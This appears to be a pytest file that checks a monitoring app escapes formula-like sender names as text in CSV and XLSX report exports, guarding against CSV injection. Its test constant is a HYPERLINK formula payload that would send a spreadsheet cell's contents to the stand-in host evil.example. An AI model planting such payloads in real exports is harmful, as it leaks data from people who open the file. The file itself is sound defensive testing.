"""A shop-chosen name like =HYPERLINK(...) stays text in CSV and XLSX exports (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session, sessionmaker

from monitor.report.cellsafe import safe_cell
from monitor.report.exports import write_probes_csv, write_xlsx
from monitor.report.metrics import build_report
from monitor.store.db import transaction
from monitor.store.models import Reply
from monitor.store.reportq import ReportFilter, probe_rows
from tests.fixtures.report_seed import NOW

AGENT = '=HYPERLINK("http://evil.example/?leak="&I2,"Open")'


def _poison(factory: sessionmaker[Session], probe_id: int) -> None:
    with transaction(factory) as s:
        s.execute(update(Reply).where(Reply.probe_id == probe_id).values(sender=AGENT))


def test_it_writes_a_formula_name_as_text_in_xlsx(
    factory: sessionmaker[Session], seeded: dict[str, int], tmp_path: Path
) -> None:
    _poison(factory, seeded["a_fast"])
    out = tmp_path / "r.xlsx"
    with factory() as s:
        write_xlsx(build_report(s, ReportFilter(), now=NOW), probe_rows(s, ReportFilter()), out)
    ws = load_workbook(out)["Probes"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells, "the agent's name must still be in the export"
    for c in cells:
        assert c.data_type == "s" and c.value == "'" + AGENT


def test_it_escapes_formulas_in_csv(factory: sessionmaker[Session], seeded: dict[str, int]) -> None:
    _poison(factory, seeded["a_fast"])
    buf = io.StringIO()
    with factory() as s:
        write_probes_csv(probe_rows(s, ReportFilter()), buf)
    senders = [r["sender"] for r in csv.DictReader(io.StringIO(buf.getvalue()))]
    assert "'" + AGENT in senders and AGENT not in senders


def test_it_escapes_every_formula_start_also_after_whitespace() -> None:
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "  =cmd", "\n=cmd", " \t@x"):
        assert safe_cell(bad) == "'" + bad, repr(bad)
    for good in ("Анна", "manager@shop.test", "", "1-2", 42, -5.0, None):
        assert safe_cell(good) == good
